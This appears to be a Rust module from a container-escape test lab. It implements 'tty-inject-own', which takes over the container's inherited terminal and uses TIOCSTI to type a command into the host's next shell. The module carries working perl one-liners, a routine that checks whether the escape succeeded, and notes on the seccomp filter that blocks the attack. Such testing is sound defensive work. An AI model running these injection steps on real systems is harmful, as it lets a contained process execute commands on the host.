//! tty-inject-own: type into a terminal after making it one's own.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::terminal;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "tty-inject-own",
    stake: "The input of whoever reads from the terminal next, although the container has a session of its own.",
    story: "The container's standard streams are a terminal that is no session's controlling terminal. A session \
            leader without one may take it, and then TIOCSTI asks for no capability any more: the terminal is the \
            attacker's own. The session of its own that stops tty-inject is here the attacker's tool. What is \
            left is to refuse the request itself: a seccomp filter that looks at the second argument of ioctl. \
            Where dev.tty.legacy_tiocsti is 0, dropping CAP_SYS_ADMIN is enough.",
    by_hand: &[
        r#"script -qc "exec perl -e '\$SIG{HUP} = q(IGNORE); ioctl STDIN, 0x5422, 0; exec @ARGV' lab3-pivot rootfs /bin/sh" /dev/null    # on the host: a terminal that is nobody's"#,
        r#"setsid -c perl -e 'ioctl(STDERR, 0x5412, $_) for split //, "id\n"'    # the next shell runs it: escaped"#,
    ],
    stopped_by: &["lab5-seccomp/tiocsti"],
    after: &["terminal"],
    man: &["ioctl_tty(2)", "setsid(2)", "seccomp(2)"],
    letters: Measured { root: "E EEEEEBB", user: "E EEEEEBB", rootless: "E EEEEEBB" },
    needs: &[Need::FreeTerminal],
    decisive: &[libc::SYS_ioctl],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let terminal = terminal::inherited(me)?;
    // Taking it is part of the deed: whoever was given no terminal is refused here.
    me.decisive(&format!("setsid(), ioctl({terminal}, TIOCSCTTY), ioctl({terminal}, TIOCSTI, ...)"));
    terminal::take(terminal)?;
    terminal::type_line(terminal, libc::TIOCSTI, me.mark())
}

fn witness(host: &Host) -> Seen {
    if host.typed_mark() {
        return Seen::Effect("a line of the attacker's came in over the terminal as typed input".into());
    }
    Seen::Nothing
}
